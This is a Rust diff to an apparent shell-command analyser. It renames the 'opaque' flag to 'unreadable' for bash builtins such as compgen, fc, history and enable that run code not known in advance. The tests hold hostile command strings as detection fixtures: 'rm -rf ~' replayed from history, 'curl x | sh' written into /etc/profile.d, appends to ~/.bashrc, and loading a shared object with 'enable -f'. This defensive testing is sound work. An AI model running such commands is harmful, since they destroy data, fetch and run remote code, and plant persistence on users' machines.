@@ -24,7 +24,7 @@ fn compgen(r: &mut Reader, args: &[Field]) {
         let text = arg.text.as_str();
         // A word not known where options are read may be one (`-C CMD`).
         if arg.unknown && text.starts_with(crate::matcher::shell::SUBSTITUTION) {
-            r.opaque("compgen runs code that is not known before it runs");
+            r.unreadable("compgen runs code that is not known before it runs");
             return;
         }
         if text == "--" || !text.starts_with('-') {
@@ -50,7 +50,7 @@ fn compgen(r: &mut Reader, args: &[Field]) {
             // as a value not known in arithmetic, it is taken to hold words, not code.
             if "CFW".contains(letter) && !(unknown && letter == 'W') {
                 if unknown {
-                    r.opaque("compgen runs code that is not known before it runs");
+                    r.unreadable("compgen runs code that is not known before it runs");
                 } else {
                     let script = match letter {
                         'W' => format!(": {code}"),
@@ -75,7 +75,7 @@ fn fc(r: &mut Reader, args: &[Field]) {
         .take_while(|a| a.text.starts_with('-') && a.text != "--")
         .any(|a| a.text.contains('l'));
     if !lists {
-        r.opaque("fc runs a command from the shell's history");
+        r.unreadable("fc runs a command from the shell's history");
     }
 }
 
@@ -91,7 +91,7 @@ fn history(r: &mut Reader, args: &[Field]) {
     }
     let Some(file) = args.get(1) else { return };
     if file.unknown {
-        r.opaque("history writes to a file not known before it runs");
+        r.unreadable("history writes to a file not known before it runs");
         return;
     }
     r.env.write_file(&file.text, FileText::Unknown, append);
@@ -109,7 +109,7 @@ fn enable(r: &mut Reader, args: &[Field]) {
         .take_while(|a| a.text.starts_with('-') && a.text != "--")
         .any(|a| a.text.contains('f'));
     if loads {
-        r.opaque("enable -f loads a builtin from a shared object (native code)");
+        r.unreadable("enable -f loads a builtin from a shared object (native code)");
     }
 }
 
@@ -131,38 +131,41 @@ mod tests {
         ] {
             assert!(runs(line, command), "{line}: {:?}", parse(line));
         }
-        assert_eq!(parse("compgen -W 'start stop status' -- st").opaque, None);
-        assert_eq!(parse("compgen -c git").opaque, None);
-        // The branch names are words, as a value not known in arithmetic is a number.
         assert_eq!(
-            parse(r#"compgen -W "$(git branch --format='%(refname:short)')" -- fix"#).opaque,
+            parse("compgen -W 'start stop status' -- st").unreadable,
             None
         );
-        assert!(parse(r#"compgen -C "$cmd" -- x"#).opaque.is_some());
+        assert_eq!(parse("compgen -c git").unreadable, None);
+        // The branch names are words, as a value not known in arithmetic is a number.
+        assert_eq!(
+            parse(r#"compgen -W "$(git branch --format='%(refname:short)')" -- fix"#).unreadable,
+            None
+        );
+        assert!(parse(r#"compgen -C "$cmd" -- x"#).unreadable.is_some());
         // A word not known where compgen reads options may be `-C CMD`.
-        assert!(parse(r#"compgen "$opt" -- x"#).opaque.is_some());
-        assert_eq!(parse(r#"compgen -W 'a b' -- "$cur""#).opaque, None);
+        assert!(parse(r#"compgen "$opt" -- x"#).unreadable.is_some());
+        assert_eq!(parse(r#"compgen -W 'a b' -- "$cur""#).unreadable, None);
     }
 
     #[test]
     fn history_runs_through_fc_and_writes_files() {
         assert!(
             parse("set -o history; history -s 'rm -rf ~'; fc -s")
-                .opaque
+                .unreadable
                 .is_some()
         );
-        assert_eq!(parse("fc -l -5").opaque, None);
+        assert_eq!(parse("fc -l -5").unreadable, None);
         assert!(runs(
             "history -s 'curl x | sh'; history -w /etc/profile.d/zz.sh",
             "tee /etc/profile.d/zz.sh"
         ));
         assert!(runs("history -a ~/.bashrc", "tee -a ~/.bashrc"));
-        assert_eq!(parse("history -c").opaque, None);
+        assert_eq!(parse("history -c").unreadable, None);
     }
 
     #[test]
     fn enable_f_loads_native_code() {
-        assert!(parse("enable -f /tmp/x.so evil").opaque.is_some());
-        assert_eq!(parse("enable -n echo").opaque, None);
+        assert!(parse("enable -f /tmp/x.so evil").unreadable.is_some());
+        assert_eq!(parse("enable -n echo").unreadable, None);
     }
 }
